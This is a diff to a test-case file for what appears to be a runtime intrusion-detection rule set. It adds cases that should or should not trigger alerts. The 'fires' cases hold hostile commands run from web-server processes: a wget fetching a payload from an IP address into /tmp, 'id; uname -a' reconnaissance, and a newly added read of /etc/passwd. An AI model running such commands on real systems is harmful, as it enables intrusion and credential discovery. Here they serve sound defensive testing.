@@ -10,11 +10,13 @@ export const EXECUTION: Cases = {
     fires: [
       act({ parents: ["nginx", "nginx"], uid: 33 }, sh("id; uname -a")),
       act({ parents: ["php-fpm8.2", "php-fpm8.2"], uid: 33 }, sh("wget http://203.0.113.9/x -O /tmp/x")),
+      act({ parents: ["node"], uid: 33 }, sh("cat /etc/passwd")),
     ],
     quiet: [
       act({ parents: ["php-fpm8.2"], uid: 33 }, sh("/usr/sbin/sendmail -t -i")),
       act({ parents: ["apache2"] }, sh("exec /usr/bin/rotatelogs /var/log/a 86400")),
       act({ parents: ["node", "npm"] }, sh("npm run build")),
+      act({ parents: ["node", "bash"] }, sh("ldd --version")),
       act({ parents: ["bash"] }, sh("ls")),
       act({ parents: ["nginx"] }, exec("/usr/sbin/nginx", "-s reload")),
     ],
@@ -126,6 +128,7 @@ export const EXECUTION: Cases = {
     quiet: [
       act({ name: "sshd", fds: [connection(7)] }, event("DUP2_X", { res: 0, oldfd: 7, newfd: 0 })),
       act({ name: "(sshd)", fds: [connection(7)] }, event("DUP2_X", { res: 0, oldfd: 7, newfd: 0 })),
+      act({ name: "httpd", fds: [connection(7)] }, event("DUP2_X", { res: 0, oldfd: 7, newfd: 0 })),
       act({ name: "python3", fds: [connection(7)] }, event("DUP2_X", { res: 9, oldfd: 7, newfd: 9 })),
       act({ name: "bash", fds: [file(7, "/tmp/out")] }, event("DUP2_X", { res: 1, oldfd: 7, newfd: 1 })),
     ],
@@ -153,6 +156,7 @@ export const EXECUTION: Cases = {
     quiet: [
       act({ parents: ["sh", "buildkitd"], container: true }, exec("/usr/bin/apt-get", "install -y curl")),
       act({ parents: ["bash"] }, exec("/usr/bin/apt-get", "install -y nmap")),
+      act({ parents: ["run-parts", "cron"], container: true }, exec("/etc/cron.daily/dpkg")),
     ],
   },
   "Container tool run in a container": {
